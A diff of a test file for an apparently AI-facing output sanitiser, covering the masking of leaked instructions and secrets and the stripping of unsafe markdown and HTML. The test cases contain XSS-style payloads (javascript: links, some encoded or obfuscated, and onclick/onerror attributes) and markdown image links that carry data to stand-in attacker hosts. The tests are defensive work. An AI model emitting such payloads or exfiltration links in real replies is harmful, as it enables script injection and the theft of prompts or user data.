@@ -60,7 +60,9 @@ async def test_a_secret_with_spaces_is_held_back_in_a_stream_but_other_words_are
 async def test_the_instructions_are_masked_where_an_answer_repeats_them() -> None:
     leak = " ".join(INSTRUCTIONS.split()[10:40])
 
-    reply = await answer(Model(f"They say: {leak}. Bye."), call(user("hi"), instructions=INSTRUCTIONS))
+    reply = await answer(
+        Model(f"They say: {leak}. Bye."), call(user("hi"), instructions=INSTRUCTIONS, prompt_name="p")
+    )
 
     assert reply.output == "They say: [removed]. Bye."
 
@@ -68,7 +70,9 @@ async def test_the_instructions_are_masked_where_an_answer_repeats_them() -> Non
 async def test_a_few_words_of_the_instructions_are_no_leak() -> None:
     text = " ".join(INSTRUCTIONS.split()[:15])
 
-    assert (await answer(Model(text), call(user("hi"), instructions=INSTRUCTIONS))).output == text
+    assert (
+        await answer(Model(text), call(user("hi"), instructions=INSTRUCTIONS, prompt_name="p"))
+    ).output == text
 
 
 async def test_personal_data_that_the_user_has_not_written_is_masked(
@@ -89,7 +93,16 @@ async def test_personal_data_that_the_user_has_not_written_is_masked(
         ('<a href="javascript:x()" onclick="y()">a</a>', '<a rel="noopener noreferrer">a</a>'),
         ("![x](https://evil.example/?q=secret)", "x"),
         ("![logo](https://cdn.example.com/logo.png)", "![logo](https://cdn.example.com/logo.png)"),
-        ("![x][1] and [text](javascript:alert(1))", "x and [text](javascript:alert(1))"),
+        ("![x][1] and [text](javascript:alert(1))", "x and text"),
+        ("![x](https://e.vil/a(b)?q=s) ![x](https://e.vil/ 'a (b)') ![a [b]](https://e.vil/)", "x x a [b]"),
+        ("![logo]\n\n[logo]: https://e.vil/?q=s", "logo\n\n[logo]: https://e.vil/?q=s"),
+        ("[x][1]\n\n[1]: javascript:alert%281%29\n", "[x][1]\n\n\n"),
+        ("[x](<javascript:alert%281%29>) [x](&#106;avascript:a) [x](java\tscript:a)", "x x x"),
+        ("<javascript:alert(1)> <https://example.com>", " <https://example.com>"),
+        ("a ``` b <img src=x> c", "a ``` b  c"),
+        ("a ```<b onclick=x>``` b", "a ```<b onclick=x>``` b"),
+        ("\\`![x](https://e.vil/?q=s)\\`", "\\`x\\`"),
+        ("Great![1] And ![2].", "Great![1] And ![2]."),
         ("[site](https://example.com) [bad](data:text/html,x)", "[site](https://example.com) bad"),
         (
             "Write `<script>` or\n```html\n<img src=x>\n```\n",
@@ -131,6 +144,10 @@ PIECES = [
     "```\n<img src=x>\n```",
     '<img src="x" onerror="y">',
     "![a](https://evil.example/x)",
+    "\n```\ncode ```` <b onclick=x>\n",
+    "![a [b]](https://e.vil/(x)) ![logo] ",
+    "\n[1]: javascript:x\n",
+    "\\` <javascript:x> \\![a](b) ",
     "[2: \"words\"] ",
     "plain words in a sentence. ",
     "a < b > c ` d [ e ",
@@ -138,7 +155,7 @@ PIECES = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("seed", range(40))
+@pytest.mark.parametrize("seed", range(80))
 def test_a_stream_leaves_as_the_whole_would_wherever_it_is_cut(seed: int) -> None:
     chosen = random.Random(seed)
     text = "".join(chosen.choices(PIECES, k=12))
@@ -156,7 +173,9 @@ def test_a_stream_leaves_as_the_whole_would_wherever_it_is_cut(seed: int) -> Non
 async def test_a_stream_is_held_back_by_a_few_words_alone() -> None:
     words = [f"{number} " for number in range(1000, 1100)]
 
-    events = await ask(Model(*words), call(user("hi"), streaming=True, instructions="Be kind."))
+    events = await ask(
+        Model(*words), call(user("hi"), streaming=True, instructions="Be kind.", prompt_name="p")
+    )
 
     assert sum(isinstance(event, TextDelta) for event in events) > 90
 
